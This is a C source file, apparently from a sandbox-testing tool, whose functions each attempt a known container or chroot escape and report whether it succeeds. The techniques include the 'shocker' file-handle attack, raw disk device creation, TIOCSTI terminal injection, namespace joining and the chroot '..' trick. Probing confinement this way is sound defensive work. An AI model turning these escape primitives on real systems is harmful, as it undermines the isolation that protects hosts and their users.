// SPDX-License-Identifier: GPL-3.0-or-later
/* Ways out through mounts, devices, descriptors and handles. */
#include <errno.h>
#include <fcntl.h>
#include <linux/mount.h>
#include <sched.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/fanotify.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#include "breakout.h"

#define EXT4_ROOT_INODE 2
#define FIRST_FOREIGN_FD 3
#define LAST_FOREIGN_FD 1024

/* Opens args[0] for writing. */
static int open_for_writing(char **args)
{
	return open(args[0], O_WRONLY | O_APPEND | O_CLOEXEC) < 0 ? errno : 0;
}

static int open_for_reading(char **args)
{
	char byte;
	int fd = open(args[0], O_RDONLY | O_CLOEXEC | O_NONBLOCK);

	return fd < 0 || read(fd, &byte, 1) < 0 ? errno : 0;
}

/* Through the magic link of a descriptor that was opened for reading. */
static int reopen_for_writing(char **args)
{
	char path[64];
	int fd = open(args[0], O_RDONLY | O_CLOEXEC);

	if (fd < 0)
		return errno;
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	return open(path, O_WRONLY | O_APPEND | O_CLOEXEC) < 0 ? errno : 0;
}

/* A copy of the mount in no namespace, and its read-only flag cleared. */
static int detached_copy(char **args)
{
	struct mount_attr attr = {.attr_clr = MOUNT_ATTR_RDONLY};
	int tree =
	    (int)syscall(SYS_open_tree, AT_FDCWD, args[0], OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC);

	if (tree < 0)
		return errno;
	return syscall(SYS_mount_setattr, tree, "", AT_EMPTY_PATH, &attr, sizeof(attr)) < 0 ? errno
	                                                                                    : 0;
}

static int make_device(const char *path, mode_t type, dev_t device)
{
	int fd;

	if (mknod(path, type | 0666, device) < 0)
		return errno;
	fd = open(path, O_RDONLY | O_CLOEXEC);
	return fd < 0 ? errno : 0;
}

/* The disk that /usr is on, as a device of our own. */
static int raw_disk(char **args)
{
	struct stat st;

	(void)args;
	return stat("/usr", &st) < 0 ? errno : make_device("/tmp/disk", S_IFBLK, st.st_dev);
}

/* MAJOR MINOR of a character device. */
static int char_device(char **args)
{
	return make_device(
	    "/tmp/device", S_IFCHR, makedev((unsigned)atoi(args[0]), (unsigned)atoi(args[1])));
}

/* The handle of the file system's root, made from that of a directory we may see: what broke out of
 * early container runtimes. */
static int shocker(char **args)
{
	union {
		struct file_handle handle;
		char room[sizeof(struct file_handle) + MAX_HANDLE_SZ];
	} file = {.handle.handle_bytes = MAX_HANDLE_SZ};
	uint32_t inode = EXT4_ROOT_INODE;
	int mount_id, dir = open(args[0], O_RDONLY | O_DIRECTORY | O_CLOEXEC);

	if (dir < 0 || name_to_handle_at(AT_FDCWD, args[0], &file.handle, &mount_id, 0) < 0)
		return errno;
	memset(file.handle.f_handle, 0, file.handle.handle_bytes);
	memcpy(file.handle.f_handle, &inode, sizeof(inode));
	return open_by_handle_at(dir, &file.handle, O_RDONLY | O_DIRECTORY) < 0 ? errno : 0;
}

/* Every file event of the machine's file system. */
static int watch_filesystem(char **args)
{
	int fd = fanotify_init(FAN_CLASS_NOTIF | FAN_CLOEXEC | FAN_REPORT_FID, O_RDONLY);

	if (fd < 0)
		return errno;
	return fanotify_mark(
	           fd, FAN_MARK_ADD | FAN_MARK_FILESYSTEM, FAN_MODIFY, AT_FDCWD, args[0]) < 0
	           ? errno
	           : 0;
}

/* Something of the lab's that was not closed. */
static int foreign_descriptor(char **args)
{
	(void)args;
	for (int fd = FIRST_FOREIGN_FD; fd < LAST_FOREIGN_FD; fd++)
		if (fcntl(fd, F_GETFD) >= 0)
			return 0;
	return EBADF;
}

static int push_input(char **args)
{
	(void)args;
	return ioctl(STDIN_FILENO, TIOCSTI, "x") < 0 ? errno : 0;
}

static int steal_terminal(char **args)
{
	(void)args;
	setsid();
	return ioctl(STDIN_FILENO, TIOCSCTTY, 1) < 0 ? errno : 0;
}

static int hang_up(char **args)
{
	(void)args;
	return syscall(SYS_vhangup) < 0 ? errno : 0;
}

static int redirect_console(char **args)
{
	(void)args;
	return ioctl(STDIN_FILENO, TIOCCONS) < 0 ? errno : 0;
}

/* The old way out of a chroot; there is none here to get out of, and nothing above. */
static int chroot_dots(char **args)
{
	struct stat st;
	int root = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);

	if (root < 0 || mkdir("/tmp/jail", 0755) < 0 || chroot("/tmp/jail") < 0 || fchdir(root) < 0)
		return errno;
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			return errno;
	return chroot(".") < 0 || stat(args[0], &st) < 0 ? errno : 0;
}

/* Mount namespaces of other processes, through whose root the host's files would be seen. */
static int join_namespace(char **args)
{
	int fd = open(args[0], O_RDONLY | O_CLOEXEC);

	return fd < 0 || setns(fd, 0) < 0 ? errno : 0;
}

const struct verb file_verbs[] = {
    {"open-for-writing", open_for_writing},
    {"open-for-reading", open_for_reading},
    {"reopen-for-writing", reopen_for_writing},
    {"detached-copy", detached_copy},
    {"raw-disk", raw_disk},
    {"char-device", char_device},
    {"shocker", shocker},
    {"watch-filesystem", watch_filesystem},
    {"foreign-descriptor", foreign_descriptor},
    {"push-input", push_input},
    {"steal-terminal", steal_terminal},
    {"hang-up", hang_up},
    {"redirect-console", redirect_console},
    {"chroot-dots", chroot_dots},
    {"join-namespace", join_namespace},
    {0},
};
